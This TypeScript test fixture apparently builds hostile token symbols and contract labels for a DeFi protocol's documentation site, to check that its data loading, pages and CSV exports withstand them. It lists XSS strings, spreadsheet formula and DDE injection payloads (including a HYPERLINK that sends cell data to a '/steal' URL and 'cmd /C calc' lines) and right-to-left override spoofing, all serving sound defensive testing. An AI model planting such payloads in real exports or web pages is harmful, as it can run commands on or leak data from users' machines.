/**
 * Hostile data, two ways, both built from the shared data (labels and symbols nobody should trust, the kind a
 * token list or a snapshot of someone else's contracts can hold):
 * - hostileSite(): every name on every network replaced (HTML/script, spreadsheet formulas, a right-to-left
 *   override, line breaks, commas and quotes, comment terminators, NatSpec tags, prototype keys, names that
 *   differ only in case, duplicates and a 5,000-character label), loaded through validate and decode: what the
 *   address book as code must survive. Call inside a test: the temporary copy is removed when the test finishes.
 * - writeHostileData(base): a copy that still builds as a site (names stay unique, so every page has its own
 *   URL), written into a folder the caller owns: what the pages and exports of a built site must survive.
 */
import { cpSync, readdirSync, readFileSync } from 'node:fs';
import type { DataDirs } from '../../src/domain/data/entrance';
import path from 'node:path';
import { loadSiteData } from '../../src/domain/data/entrance';
import type { SiteData } from '../../src/domain/data/model';
import { NETWORK_IDS } from '../../src/domain/data/networks';
import { DIRS, editJson, ROOT, tempCopy } from './data';

export const LONG_LABEL = `${'Long label, '.repeat(416)}end!!!!!`.slice(0, 5000);

export const HOSTILE = [
  '<script>alert("x")</script>',
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example","click")',
  "-2+3+cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '@SUM(1)',
  '\tTabbed',
  '\rCarriage',
  'Right\u202Eto left\u202C override',
  'line one\nline two\r\n*/ // /* end',
  'a,"quoted",b',
  '@title evil natspec',
  '__proto__',
  'constructor',
  'USDC', // the same name twice (see below) and in another case
  'usdc',
  '0x',
  '\u{1F600}\u{1F600}',
  "it's \\ back'slash",
  LONG_LABEL,
] as const;

/** SiteData with hostile names on every network. */
export function hostileSite(): SiteData {
  const { snapshotDir, dataDir } = tempCopy();
  const pick = (i: number) => HOSTILE[i % HOSTILE.length]!;
  editJson(path.join(dataDir, 'tokens.json'), (json) => {
    for (const id of NETWORK_IDS) {
      (json.networks[id] as { symbol: string }[]).forEach((t, i) => {
        t.symbol = pick(i);
      });
    }
  });
  for (const id of NETWORK_IDS) {
    editJson(path.join(snapshotDir, `${id}.json`), (snap) => {
      let n = 0;
      // Adapter targets: the names adapters are keyed by.
      for (const cs of snap.creditState) {
        for (const target of Object.keys(cs.creditManager.contractsToAdapters)) snap.contractLabels[target.toLowerCase()] = pick(n++);
      }
      snap.poolState.forEach((p: { pool: { name: string } }, i: number) => {
        p.pool.name = i < 2 ? HOSTILE[0] : pick(i + 3); // two pools with one name
      });
      snap.creditState.forEach((c: { creditManager: { name: string } }, i: number) => {
        c.creditManager.name = i < 2 ? LONG_LABEL : pick(i + 7); // two managers with the same 5,000-character name
      });
    });
  }
  return loadSiteData({ snapshotDir, dataDir, v31Dir: DIRS.v31Dir });
}

/** Token symbols (mainnet token list): each names a token with a main price feed, so it starts a CSV cell. */
export const HOSTILE_SYMBOLS: Readonly<Record<string, string>> = {
  CRV: '=HYPERLINK("http://127.0.0.1:9/steal?d="&A1,"Click for details")',
  LINK: "-2+3+cmd|' /C calc'!A0",
  UNI: "@SUM(1+1)*cmd|' /C calc'!A0",
  FRAX: '+1+1',
  LDO: '\t=1+1',
  APE: '\r=2+2',
  FXS: '<script id="hostile-script">alert("symbol")</script>',
  MKR: 'ABC\u202Etxt.exe',
};

/** contractLabels of adapter targets in one credit manager ("Adapter for …" rows, and the names on state pages). */
export const HOSTILE_LABELS = [
  '<img id="hostile-img" src="x" onerror="alert(\'label\')">',
  'first line\nsecond line',
  'commas, "quotes", and more',
  `Long${'x'.repeat(4996)}`,
] as const;

/** The credit manager whose adapters get those labels, and one renamed. */
export const LABELLED_MANAGER = 'Farm USDC';
export const RENAMED_MANAGER = { from: 'crvUSD Tier 1', to: '<b id="hostile-b">=1+2</b> "crvUSD", Tier 1' };

/** Copies the shared snapshot and data folders into `base` and makes them hostile; returns the two folders. */
export function writeHostileData(base: string): DataDirs & { targets: string[] } {
  const snapshotDir = path.join(base, 'snapshots');
  const dataDir = path.join(base, 'data');
  cpSync(DIRS.snapshotDir, snapshotDir, { recursive: true });
  cpSync(DIRS.dataDir, dataDir, { recursive: true });
  editJson(path.join(dataDir, 'tokens.json'), (j) => {
    for (const t of j.networks.mainnet as { symbol: string }[]) t.symbol = HOSTILE_SYMBOLS[t.symbol] ?? t.symbol;
  });
  let targets: string[] = [];
  editJson(path.join(snapshotDir, 'mainnet.json'), (j) => {
    const managers = j.creditState.map((c: any) => c.creditManager);
    const labelled = managers.find((m: any) => m.name === LABELLED_MANAGER);
    const renamed = managers.find((m: any) => m.name === RENAMED_MANAGER.from);
    if (!labelled || !renamed) throw new Error('the shared mainnet snapshot no longer has the credit managers this fixture changes');
    // Targets whose labels the docs cite (`target="…"`) keep them: the build refuses a citation of a label the data lacks.
    const cited = citedTargetLabels();
    targets = Object.keys(labelled.contractsToAdapters)
      .filter((t) => !cited.has(j.contractLabels[t.toLowerCase()]))
      .slice(0, HOSTILE_LABELS.length);
    if (targets.length < HOSTILE_LABELS.length) throw new Error(`${LABELLED_MANAGER} has too few adapters whose target the docs do not cite`);
    targets.forEach((t, i) => (j.contractLabels[t.toLowerCase()] = HOSTILE_LABELS[i]));
    renamed.name = RENAMED_MANAGER.to;
  });
  return { snapshotDir, dataDir, v31Dir: DIRS.v31Dir, targets };
}

/** Target labels the docs cite in `<LiveParam … target="A+B" />`. */
function citedTargetLabels(): Set<string> {
  const docs = path.join(ROOT, 'docs');
  const cited = new Set<string>();
  for (const file of readdirSync(docs, { recursive: true, encoding: 'utf8' })) {
    if (!/\.mdx?$/.test(file)) continue;
    for (const m of readFileSync(path.join(docs, file), 'utf8').matchAll(/\btarget="([^"]+)"/g)) for (const label of m[1]!.split('+')) cited.add(label);
  }
  return cited;
}
